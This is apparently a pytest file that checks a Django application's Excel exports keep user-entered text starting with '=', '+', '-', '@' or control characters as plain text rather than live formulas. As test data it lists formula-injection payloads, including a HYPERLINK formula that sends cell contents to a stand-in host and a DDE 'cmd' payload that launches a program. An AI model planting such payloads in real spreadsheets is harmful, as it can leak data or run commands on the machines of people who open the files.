"""Formula injection: every .xlsx the application writes keeps what users typed as text. A staff
member's result `=HYPERLINK("http://x"&A1)` once became a live formula in the periodic report's annex
after approval; now no workbook holds a formula, each such text reads back exactly as typed, and Excel
is told it is text (the quote prefix), so neither Excel nor LibreOffice evaluates it.

The application writes no formula on purpose: DELIBERATE_FORMULAS is empty, and any formula found in
any workbook fails these tests."""

import dataclasses
import datetime
import io
import zoneinfo
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import AccountEvent, Department
from cchc.printing.document import Appendix, Column, GroupRow, Table
from cchc.printing.files import render
from evaluations.models import Method, Scope
from evaluations.scoring import Node
from evaluations.services import rubric_create
from reports.services import report_create
from tasks import services
from tasks.importing.measure import sample_annex
from tasks.models import Task
from tests.conftest import client_for, make_task
from tests.printing_sample import sample_document

HANOI = zoneinfo.ZoneInfo("Asia/Ho_Chi_Minh")
HYPERLINK = '=HYPERLINK("http://x"&A1)'
# Every start that makes Excel or LibreOffice read a text as a formula (or a CSV reader split it)
DANGEROUS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
STARTS = ("=", "+", "-", "@", "\t", "\r")
DELIBERATE_FORMULAS: dict[str, set[str]] = {}  # workbook → cells the application makes formulas: none


def cells_of(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_kept_as_text(content: bytes, texts, *, workbook: str) -> None:
    """No cell of the workbook is a formula; each text is a cell's whole value, a string, with Excel's
    quote prefix when it starts like a formula."""
    cells = cells_of(content)
    formulas = {cell.coordinate for cell in cells if cell.data_type == "f"}
    assert formulas == DELIBERATE_FORMULAS.get(workbook, set()), workbook
    by_value = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for text in texts:
        assert text in by_value, (workbook, text)
        cell = by_value[text]
        assert (cell.data_type, cell.quotePrefix) == ("s", text.startswith(STARTS)), (workbook, text)


def body(response) -> bytes:
    assert response.status_code == 200, response.content[:500]
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.fixture
def hostile_tasks(plan, department, clerk):
    """Tasks whose every free-text field starts like a formula, one per dangerous start."""
    return [
        make_task(
            plan,
            department,
            number=str(index),
            by=clerk,
            content=text,
            expected_output=f"{text[0]}Sản phẩm {index}",
            notes=f"{text[0]}Ghi chú {index}",
            lead_name="=Bộ Nội vụ" if index == 1 else "",
        )
        for index, text in enumerate(DANGEROUS, start=1)
    ]


def stored_contents(tasks) -> list[str]:
    """The contents as the tasks keep them (surrounding spaces, tabs and line breaks trimmed)."""
    contents = [Task.objects.get(pk=task.pk).content for task in tasks]
    assert all(content.startswith(STARTS) for content in contents)
    return contents


def test_the_task_export_keeps_task_text_as_text(plan, clerk, hostile_tasks):
    content = body(client_for(clerk).get(reverse("tasks:export", args=[plan.pk])))
    texts = [*stored_contents(hostile_tasks), "=Bộ Nội vụ"]
    texts += [task.expected_output for task in hostile_tasks] + [task.notes for task in hostile_tasks]
    assert_kept_as_text(content, texts, workbook="tasks:export")


def test_the_plan_annex_in_excel_keeps_task_text_as_text(plan, staff, hostile_tasks):
    content = body(client_for(staff).get(reverse("plans:print", args=[plan.pk, "xlsx"])))
    assert_kept_as_text(content, stored_contents(hostile_tasks), workbook="plans:print")


def test_the_annex_template_holds_no_formula(clerk):
    content = body(client_for(clerk).get(reverse("tasks:import_template")))
    assert_kept_as_text(content, [], workbook="tasks:import_template")


def test_the_periodic_report_annex_keeps_an_approved_result_as_text(
    plan, department, clerk, staff, dept_head, agency
):
    agency.completion_requires_evidence = False
    agency.save()
    task = make_task(plan, department, number="1", by=clerk, deadline_text="Tháng 6/2019")
    with time_machine.travel(datetime.datetime(2019, 5, 20, 9, tzinfo=HANOI), tick=False):
        report = services.progress_report(
            task=task, by=staff, percent=100, narrative="Đã hoàn thành", result=HYPERLINK
        )
        services.progress_approve(report=report, by=dept_head)
    with time_machine.travel(datetime.datetime(2019, 6, 18, 10, tzinfo=HANOI), tick=False):
        periodic = report_create(plan=plan, by=clerk, period="half_year", year=2019)
        content = body(client_for(clerk).get(reverse("reports:print", args=[periodic.pk, "xlsx"])))
    assert_kept_as_text(content, [HYPERLINK], workbook="reports:print")


def test_the_change_log_export_keeps_reasons_as_text(leader, admin_user, staff, agency):
    for text in DANGEROUS:
        AccountEvent.objects.create(
            agency=agency,
            actor=admin_user,
            kind=AccountEvent.Kind.USER_CHANGED,
            subject_user=staff,
            field="ghi chú",
            old_value="",
            new_value="x",
            reason=text,
        )
    content = body(client_for(leader).get(reverse("audit:export")))
    assert_kept_as_text(content, DANGEROUS, workbook="audit:export")


def test_the_rubric_export_keeps_criteria_text_as_text(leader, agency):
    rubric = rubric_create(
        name=HYPERLINK,
        scope=Scope.DEPARTMENTS,
        total_points=Decimal(2),
        agency=agency,
        criteria=[
            Node(
                "I",
                "+Cải cách thể chế",
                Decimal(2),
                Method.GROUP,
                children=[
                    Node("1", "=1+1", Decimal(1), Method.MANUAL, rule="-Trừ 0,5 điểm", evidence="@Văn bản"),
                    Node("2", "\tBan hành đúng hạn", Decimal(1), Method.MANUAL),
                ],
            )
        ],
    )
    content = body(client_for(leader).get(reverse("evaluations:rubric_export", args=[rubric.pk])))
    texts = [HYPERLINK, "+Cải cách thể chế", "=1+1", "\tBan hành đúng hạn", "@Văn bản"]
    assert_kept_as_text(content, texts, workbook="evaluations:rubric_export")


def test_every_printed_table_keeps_its_text_as_text():
    """The annexes of every printed kind (plans, reports, evaluations, ratings) are written by one
    function; a document whose every text starts like a formula comes out as text."""
    columns = (Column("=Cột", 0.3), Column("+Nội dung", 0.7))
    rows = (GroupRow("-I", "=Nhóm"), ("@1", HYPERLINK), ("\t2", "\r=1+1"))
    document = dataclasses.replace(
        sample_document(),
        summary="=Trích yếu",
        body=(Table(columns=columns, rows=rows),),
        appendices=(
            Appendix(
                label="Phụ lục", title="=tiêu đề", attached_to="=(Kèm theo)", blocks=(Table(columns, rows),)
            ),
        ),
    )
    texts = ["=Cột", "+Nội dung", "-I", "=Nhóm", "@1", HYPERLINK, "\t2", "\r=1+1", "=(Kèm theo)", "=TIÊU ĐỀ"]
    assert_kept_as_text(render(document, "xlsx"), texts, workbook="printed document")


def test_the_benchmark_annex_keeps_department_names_as_text(plan, agency):
    Department.objects.create(agency=agency, code="X", name="=Phòng X", position=9)
    assert_kept_as_text(sample_annex(plan, rows=20), ["=Phòng X"], workbook="sample_annex")
